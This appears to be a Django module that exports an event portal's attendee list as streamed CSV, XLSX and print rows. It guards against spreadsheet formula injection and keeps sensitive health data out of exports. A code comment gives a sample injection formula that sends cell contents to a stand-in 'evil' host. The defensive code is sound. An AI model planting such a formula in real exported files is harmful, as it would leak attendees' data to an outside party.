"""The attendee list leaving the portal: streamed CSV, XLSX and the rows of the print list.

Every writer takes the same rows (``export_rows``), so a CSV, a workbook and a printed
list of the same filter hold the same people. Memory stays constant whatever the number of
registrations: rows come from ``QuerySet.iterator()`` in chunks, the CSV is a generator and
the workbook is written in openpyxl's write-only mode to a temporary file.
"""

import csv
import datetime
import re
import tempfile
import urllib.parse
from zoneinfo import ZoneInfo

from django.conf import settings
from django.utils.text import slugify
from django.utils.translation import gettext as _

from registrations.models import Question, Registration
from registrations.queries import attendee_list

#: Rows per fetch from the database: at most two chunks are in memory at once.
CHUNK_SIZE = 500
#: CSV rows joined into one chunk of the streamed response (fewer, larger writes).
ROWS_PER_CHUNK = 200
DATETIME_FORMAT = "%Y-%m-%d %H:%M"
XLSX_DATETIME_FORMAT = "yyyy-mm-dd hh:mm"


def filtered_registrations(event, filters):
    """The event's registrations matching the attendee list's filters, in the list's order
    (``queries.attendee_list``, so that an export holds what the organiser sees). Ranks on
    the waiting list come from ``waitlist_ranks``, once for the whole export."""
    return attendee_list(event, filters)


def waitlist_ranks(event):
    """{registration id: visible place in the queue (1 is next)} for the event's waiting list.

    One query for the whole list instead of a correlated count per row (quadratic on long
    queues); only ids are kept, so a waiting list of 10,000 costs well under a megabyte.
    """
    ids = (
        Registration.objects.filter(event=event, status=Registration.Status.WAITLISTED)
        .order_by("waitlist_position")
        .values_list("pk", flat=True)
    )
    return {pk: rank for rank, pk in enumerate(ids.iterator(chunk_size=CHUNK_SIZE), start=1)}


# --------------------------------------------------------------------------- cell values

# CSV/formula injection (OWASP "CSV Injection"): Excel and LibreOffice run a cell that starts
# with = + - @ (and, after stripping, tab or carriage return) as a formula, e.g.
# =HYPERLINK("http://evil/?"&A1). Names, organisations and answers are typed by participants,
# so such a cell gets a leading apostrophe: spreadsheets then show it as plain text.
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
# Control characters that XML (and so XLSX) cannot hold; openpyxl refuses them.
_ILLEGAL_XML = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")


def safe_text(value):
    """A text cell that no spreadsheet runs as a formula."""
    text = _ILLEGAL_XML.sub("", str(value))
    if text.startswith(FORMULA_PREFIXES):
        return "'" + text
    return text


def local_naive(moment):
    """An aware datetime as naive wall-clock time in Stockholm (spreadsheets know no zones)."""
    if moment is None:
        return None
    return moment.astimezone(ZoneInfo(settings.TIME_ZONE)).replace(tzinfo=None)


class Columns:
    """The header and the cell values of an export, with every label translated up front.

    Dietary and accessibility needs (GDPR article 9) are not among them: a file that leaves
    the portal outlives the retention rules. The organisers see them per person on the
    attendee list and the printed list, and give the caterer the counts without names
    (``privacy.catering_summary``, the catering page). Anonymised rows have no name or e-mail.

    Built in the request (active language); the rows are produced later, while the response
    streams, when the language of the request may no longer be active.
    """

    def __init__(self, event, *, ranks=None):
        self.questions = list(Question.objects.filter(event=event).order_by("position", "pk"))
        self.ranks = ranks or {}
        self.status_labels = {value: str(label) for value, label in Registration.Status.choices}
        self.yes, self.no = _("Yes"), _("No")
        self.header = [
            _("Name"),
            _("E-mail"),
            _("Organisation"),
            _("Status"),
            _("Waiting-list place"),
            _("Registered at"),
            _("Checked in at"),
            *(question.label for question in self.questions),
        ]
        self.anonymised = _("Anonymised")

    def answer(self, question, value):
        if value in (None, "", []):
            return ""
        if question.kind == Question.Kind.YES_NO:
            return {"yes": self.yes, "no": self.no}.get(value, str(value))
        if isinstance(value, list):
            return ", ".join(str(item) for item in value)
        return str(value)

    def values(self, registration):
        """One row: text cells, datetimes as naive Stockholm time, the rank as a number or None."""
        user = registration.user
        answers = registration.answers if isinstance(registration.answers, dict) else {}
        return [
            (user.get_full_name() or user.email) if user else self.anonymised,
            user.email if user else "",
            registration.organisation,
            self.status_labels.get(registration.status, registration.status),
            self.ranks.get(registration.pk),
            local_naive(registration.created_at),
            local_naive(registration.checked_in_at),
            *(self.answer(question, answers.get(question.key)) for question in self.questions),
        ]


def export_rows(event, filters):
    """(columns, registrations iterator) for an export of the event with the given filters.

    Queries: the questions and the waiting list once, then the registrations with their users
    in one query read in chunks (a server-side cursor on PostgreSQL).
    """
    registrations = filtered_registrations(event, filters)
    needs_ranks = filters.get("status", "") in ("", "all", Registration.Status.WAITLISTED)
    columns = Columns(event, ranks=waitlist_ranks(event) if needs_ranks else None)
    return columns, registrations.iterator(chunk_size=CHUNK_SIZE)


# --------------------------------------------------------------------------- CSV


class _Line:
    """A file-like object whose write() returns what it got, for csv.writer."""

    def write(self, value):
        return value


def _csv_cell(value):
    if value is None:
        return ""
    if isinstance(value, datetime.datetime):
        return value.strftime(DATETIME_FORMAT)
    if isinstance(value, int):
        return str(value)
    return safe_text(value)


def csv_chunks(columns, registrations):
    """The CSV as text chunks, for Swedish Excel: BOM, ``;`` between cells, CRLF lines.

    Excel in Swedish locales uses ``;`` as its list separator (``,`` is the decimal comma)
    and reads a file as UTF-8 only when it starts with a byte-order mark.
    """
    writer = csv.writer(_Line(), delimiter=";", lineterminator="\r\n")
    yield "\ufeff" + writer.writerow([safe_text(label) for label in columns.header])
    lines = []
    for registration in registrations:
        lines.append(writer.writerow([_csv_cell(value) for value in columns.values(registration)]))
        if len(lines) >= ROWS_PER_CHUNK:
            yield "".join(lines)
            lines = []
    if lines:
        yield "".join(lines)


# --------------------------------------------------------------------------- XLSX


def write_xlsx(columns, registrations, *, title=""):
    """The export as an XLSX workbook in a temporary file, positioned at its start.

    openpyxl's write-only mode keeps no rows in memory (it spools them to disk itself).
    """
    from openpyxl import Workbook
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.styles import Font
    from openpyxl.utils import get_column_letter

    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet(title=_sheet_title(title))
    sheet.freeze_panes = "A2"  # the header stays visible while scrolling
    for index, width in enumerate([28, 32, 28, 20, 10, 17, 17], start=1):
        sheet.column_dimensions[get_column_letter(index)].width = width
    bold = Font(bold=True)
    header = []
    for label in columns.header:
        cell = _xlsx_text(sheet, label)
        cell.font = bold
        header.append(cell)
    sheet.append(header)
    for registration in registrations:
        row = []
        for value in columns.values(registration):
            if isinstance(value, datetime.datetime):
                cell = WriteOnlyCell(sheet, value=value)
                cell.number_format = XLSX_DATETIME_FORMAT
                row.append(cell)
            elif value is None or isinstance(value, int):
                row.append(value)
            else:
                row.append(_xlsx_text(sheet, value))
        sheet.append(row)
    file = tempfile.TemporaryFile()  # noqa: SIM115 (closed by the FileResponse that sends it)
    workbook.save(file)
    file.seek(0)
    return file


def _xlsx_text(sheet, value):
    """A cell typed as text: XLSX, unlike CSV, can say so, so "=1+1" or "+46 70…" is shown
    as typed (no apostrophe) and never run as a formula."""
    from openpyxl.cell import WriteOnlyCell

    cell = WriteOnlyCell(sheet, value=_ILLEGAL_XML.sub("", str(value)))
    cell.data_type = "s"
    return cell


def _sheet_title(title):
    """A worksheet name Excel accepts: at most 31 characters, none of []:*?/\\."""
    cleaned = re.sub(r"[\[\]:*?/\\]", " ", title).strip() or "Export"
    return cleaned[:31]


# --------------------------------------------------------------------------- print list


def print_rows(event, filters):
    """The rows of the printable list, as a list (a printed list is read in one go)."""
    return list(filtered_registrations(event, filters))


# --------------------------------------------------------------------------- file names


def content_disposition(event, extension):
    """An attachment header with an ASCII file name and the full name as RFC 5987 UTF-8."""
    name = f"{event.slug}-{_('attendees')}.{extension}"
    ascii_name = re.sub(r"[^A-Za-z0-9._-]+", "-", slugify(f"{event.slug}-{_('attendees')}")) or "attendees"
    ascii_name = f"{ascii_name[:100]}.{extension}"
    return f"attachment; filename=\"{ascii_name}\"; filename*=UTF-8''{urllib.parse.quote(name, safe='')}"
